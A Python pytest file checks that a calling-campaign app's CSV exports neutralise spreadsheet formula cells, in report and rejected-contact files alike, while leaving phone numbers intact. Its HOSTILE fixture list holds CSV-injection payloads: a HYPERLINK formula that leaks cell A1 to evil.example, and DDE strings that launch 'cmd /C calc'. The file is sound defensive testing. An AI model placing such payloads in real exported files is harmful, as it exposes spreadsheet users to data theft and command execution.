"""Every CSV the product writes: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
from datetime import timedelta

import pytest

from app import contacts as ci
from app.csvcells import safe_cell
from app.finalization import finalize
from app.models import Contact, CampaignReport, FINALIZING
from tests.campaign_end_support import T0, call, contact_ids, make_campaign

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_it_neutralises_a_formula_cell(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+33612340000", "+1 (202) 555-0100", "-12.5", "Marie", "", "a=b"])
def test_it_keeps_numbers_phones_and_plain_text(cell):
    assert safe_cell(cell) == cell


def test_it_passes_non_text_values_unchanged():
    assert safe_cell(3) == 3 and safe_cell(None) is None


def test_it_neutralises_contact_fields_in_the_report_csv(db):
    campaign = make_campaign(len(HOSTILE), state=FINALIZING)
    ids = contact_ids(campaign)
    for contact_id, hostile in zip(ids, HOSTILE):
        Contact.update(fields={"name": hostile, "city": "Paris"}).where(
            Contact.id == contact_id
        ).execute()
    call(campaign, ids[0], 1, [("failed-busy", 2)], outcome="busy")
    assert finalize(campaign.id, T0 + timedelta(hours=1)) == "closed"
    report = CampaignReport.get(CampaignReport.campaign == campaign.id)
    with open(report.csv_path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + hostile for hostile in HOSTILE]
    assert rows[1][0].startswith("+336")  # phone numbers stay numbers


def test_it_neutralises_cells_in_the_rejects_csv(db, tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_text('name,phone\nok,0612345678\n"=HYPERLINK(""x"")",=1+2\n"@SUM(1)",12\n')
    contact_list, _ = ci.create_contact_list("list", path, "FR")
    done = ci.import_contact_list(contact_list.id, path)
    assert done.rows_rejected == 2
    with open(done.rejects_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][2:] == ["'=HYPERLINK(\"x\")", "'=1+2"]
    assert rows[2][2:] == ["'@SUM(1)", "12"]
